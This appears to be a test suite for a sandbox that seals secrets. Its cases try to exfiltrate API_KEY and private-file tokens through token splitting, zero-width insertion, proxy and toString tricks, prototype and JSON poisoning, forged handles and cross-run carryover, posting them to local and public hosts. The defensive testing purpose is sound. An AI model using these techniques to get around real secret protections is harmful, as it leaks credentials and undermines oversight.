// Tokens, and objects that answer differently each time.

//# guess-a-token
// title: guesses and forges tokens
// rows: 73
const real = String(env.read("API_KEY"));
for (const text of ["sealed0" + "0".repeat(32), real.slice(0, -1) + (real.endsWith("0") ? "1" : "0"), real.slice(0, 7) + [...real.slice(7)].reverse().join("")]) {
  try { fs.write("out/forged.txt", text); print("written"); } catch (error) { print(error.code); }
}
print(fs.exists("out/forged.txt"));

//# forge-in-private-sink
// title: forged tokens to a local-only host
// rows: 73
for (const text of ["sealed0" + "0".repeat(32), "sealed0" + "f".repeat(31), "SEALED0" + "0".repeat(32)]) {
  try { print(net.httpPost("$LOCAL/echo", text).body); } catch (error) { print(error.code); }
}

//# split-and-join
// title: splits, joins, and joins the halves of two
// rows: 74
const [a, b] = [String(env.read("API_KEY")), String(fs.read("priv/secret.txt"))];
for (const text of [a.split("").join(""), a.slice(0, 20) + a.slice(20), a.slice(0, 20) + b.slice(20), a + b, a.slice(0, -1), `${a}0`, a.toUpperCase(), a.replaceAll("a", "A")]) {
  try { fs.write("out/split.txt", text); print("written"); } catch (error) { print(error.code); }
  try { print(net.httpPost("$LOCAL/echo", text).status); } catch (error) { print(error.code); }
}

//# zero-width
// title: tokens with letters between that somebody may take out again
// rows: 74
const text = String(env.read("API_KEY"));
for (const between of ["\u200b", " ", "\0", "%00", "\n"]) {
  try { fs.write("out/between.txt", [...text].join(between)); print(between.length, "written"); } catch (error) { print(error.code); }
}

//# token-in-the-file
// title: a private file that holds text in the form of a token
// reaches: local POST /echo, $SECRET
// rows: 75
const text = fs.read("priv/token.txt");
print(text);
fs.write("priv/again.txt", `${text}`);
print(net.httpPost("$LOCAL/echo", `${fs.read("priv/again.txt")}`).body);

//# second-order
// title: writes a token's text into a private file, reads it, and sends it
// reaches: local POST /echo, sealed0
// rows: 75
const key = String(env.read("API_KEY"));
fs.write("priv/halves.txt", `${key.slice(0, 3)}`);
try { fs.write("priv/halves.txt", key.slice(3), { append: true }); } catch (error) { print(error.code); }
const both = fs.read("priv/halves.txt");
print(net.httpPost("$LOCAL/echo", `${both}`).body, both);

//# token-through-public
// title: a public host or file gives a live token back
const key = String(env.read("API_KEY"));
const parts = [key.slice(0, 6), key.slice(6)];
try { print(net.httpPost("$PUBLIC/echo", parts[0] + "-" + parts[1]).body); } catch (error) { print(error.code); }
fs.write("out/one.txt", parts[0]);
print(fs.read("out/one.txt") + "x");

//# check-then-use
// title: getters, toString, valueOf and toJSON that answer differently the second time
// rows: 76
const key = env.read("API_KEY");
let turn = 0;
const shifty = { toString: () => (turn++ % 2 ? `${key}` : "out/a.txt"), valueOf: () => `${key}`, toJSON: () => (turn++ % 2 ? `${key}` : "a") };
for (const attempt of [() => fs.write(shifty, "x"), () => fs.write("out/b.txt", shifty), () => net.httpPost("$PUBLIC/x", shifty), () => net.httpGet(shifty), () => subprocess.exec(["bin/show", shifty]), () => subprocess.exec(new Proxy(["bin/show", "a"], { get: (t, n) => (n === "1" && turn++ ? `${key}` : t[n]) }))]) {
  try { print(typeof attempt()); } catch (error) { print(error.name, error.code); }
}

//# proxies-around-it
// title: proxies around the handle to every host call
// rows: 76
const key = env.read("API_KEY");
const proxy = new Proxy(key, { get: (target, name) => (name === "toJSON" ? () => "x" : target[name]) });
const over = new Proxy(function () {}, { get: () => key, apply: () => key });
for (const value of [proxy, over, { __proto__: key }, Object.create(key)]) {
  for (const sink of [(v) => fs.write("out/p", v), (v) => net.httpPost("$PUBLIC/p", v), (v) => subprocess.exec(["bin/show", v]), (v) => print(v), (v) => print(JSON.stringify(v)), (v) => print(`${v}`)]) {
    try { sink(value); } catch (error) { print(error.name, error.code); }
  }
}

//# poisoned-json
// title: poisons JSON.stringify, toJSON and prototypes before host calls
// rows: 76
const key = env.read("API_KEY");
for (const poison of [() => { String.prototype.toJSON = () => "poisoned"; }, () => { Object.prototype.toJSON = () => ({ key }); }, () => { JSON.stringify = () => `"${key}"`; }, () => { Array.prototype.map = () => [key]; }, () => { Promise.prototype.then = () => key; }, () => { Object.prototype.sealed = { token: `${key}` }; }, () => { Object.prototype.__sealed = key; }]) {
  try { poison(); } catch (error) { print(error.name); }
}
try { fs.write("out/poisoned.txt", "x"); } catch (error) { print(error.code); }
net.httpPost("$PUBLIC/poisoned", { a: 1 });
print(key);

//# forged-handle
// title: objects that look like handles
const key = env.read("API_KEY");
for (const fake of [{ sealed: { token: String(key), display: "x", kind: "value", label: [] } }, { token: String(key) }, Object.setPrototypeOf({}, Object.getPrototypeOf(key))]) {
  print(seal.is(fake));
  for (const attempt of [() => seal.compute([fake], (k) => k), () => release("state", fake), () => fs.write("out/f", fake)]) {
    try { print(attempt()); } catch (error) { print(error.name, error.code); }
  }
}

//# handle-of-another-run
// title: a token of an earlier run
// rows: 82
// via: cli mcp
// policy: releases
// reaches: local POST /echo, sealed0
// A late one: the seed gives the first ones of the next run again.
for (let n = 0; n < 20; n += 1) env.read("LANG"), fs.exists("priv/bit.txt");
fs.write("out/letters.txt", [...String(env.read("API_KEY"))].join(" "));
//> next run
const token = fs.read("out/letters.txt").replaceAll(" ", "");
print(token.length);
try { print(net.httpPost("$LOCAL/echo", token).body); } catch (error) { print(error.code); }
try { print(JSON.parse(token)); } catch (error) { print(error.name, error.code); }

//# public-answer-with-token
// title: a public file that holds a live token, fixed by the seed
// rows: 75
// setup: known-token
// expect: E_SINK
env.read("API_KEY");
print(fs.read("pub/known.txt").length);

//# use-only-by-file
// title: the text of a credential's token, out of a private file, to a local-only host
// rows: 75
// reaches: local POST /echo, sealed0
const key = String(env.read("BROKER_KEY"));
fs.write("priv/halves.txt", key.slice(0, 3));
fs.write("priv/halves.txt", key.slice(3), { append: true });
print(net.httpPost("$LOCAL/echo", `${fs.read("priv/halves.txt")}`).body);
